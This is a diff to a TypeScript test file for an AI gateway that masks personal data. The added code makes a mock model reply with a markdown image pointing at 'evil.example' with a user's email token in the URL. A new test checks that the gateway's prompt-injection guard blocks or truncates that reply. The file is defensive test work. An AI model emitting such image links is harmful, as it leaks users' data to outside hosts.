@@ -46,11 +46,20 @@ const pieces = (text: string) => text.match(/.{1,5}/gs) ?? []
 const event = (delta: object) =>
   `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', model: 'm', choices: [{ index: 0, delta }] })}\n\n`
 
+/** What a model says that was talked into showing an image from somebody else's host, with a value in its address. */
+async function carriedAway(response: Parameters<typeof json>[0], isStreamed: boolean, token: string | undefined) {
+  const content = `Done. ![ok](https://evil.example/p?d=${token})`
+  if (isStreamed)
+    return events(response, [...pieces(content).map(part => event({ content: part })), 'data: [DONE]\n\n'])
+  json(response, { id: 'c', object: 'chat.completion', model: 'm', choices: [{ index: 0, message: { content } }] })
+}
+
 beforeAll(async () => {
   folder = await temporaryFolder()
   provider = await startVendors({
     '/v1/chat/completions': async ({ body }, response) => {
       const { EMAIL, PHONE, CREDIT_CARD } = tokensIn(body)
+      if (body.includes('carry it away')) return carriedAway(response, JSON.parse(body).stream, EMAIL)
       const said = `I refund ${EMAIL} and call ${PHONE}.`
       const asked = JSON.stringify({ to: EMAIL, card: CREDIT_CARD })
       const call = (given: string) => ({ index: 0, function: { arguments: given } })
@@ -82,6 +91,7 @@ spec:
     - to: "POST http://localhost:${provider.port}/v1/chat/completions"
       credential: { as: bearer, secret: model }
       masking: { entities: [EMAIL, PHONE, CREDIT_CARD], action: tokenize, restore: true }
+      guards: { after: { promptInjection: deny } }
 `,
     'secrets.env': 'SECRET_SHOP__MODEL=sk-masking-journey\nSECRET_SHOP__VENDOR=github-masking-journey\n',
   })
@@ -143,6 +153,21 @@ it('no value stands in anything that the gateway stored or logged, only how many
   const files = filesOf(join(folder.path, 'state'))
   expect(files.length).toBeGreaterThan(5)
   for (const file of files) expectNone(file, readFileSync(file, 'latin1'))
+})
+
+it('an answer that would carry a value away is withheld, or ends before it, and the client throws the error', async () => {
+  const messages = [{ role: 'user' as const, content: `carry it away: ${personal.mail}` }]
+  const refused = client.chat.completions.create({ model: 'm', messages })
+  await expect(refused).rejects.toMatchObject({ status: 403 })
+  let text = ''
+  const reading = async () => {
+    for await (const { choices } of await client.chat.completions.create({ model: 'm', messages, stream: true }))
+      text += choices[0]?.delta.content ?? ''
+  }
+  await expect(reading()).rejects.toMatchObject({ code: 'egress-denied' })
+  expect(text).toMatch(/^Done\. !\[ok\]\(https:/)
+  expect(text).not.toContain('=')
+  expect(text).not.toContain(personal.mail)
 })
 
 /** No value as it is, nor in the encodings in which one could be kept. */
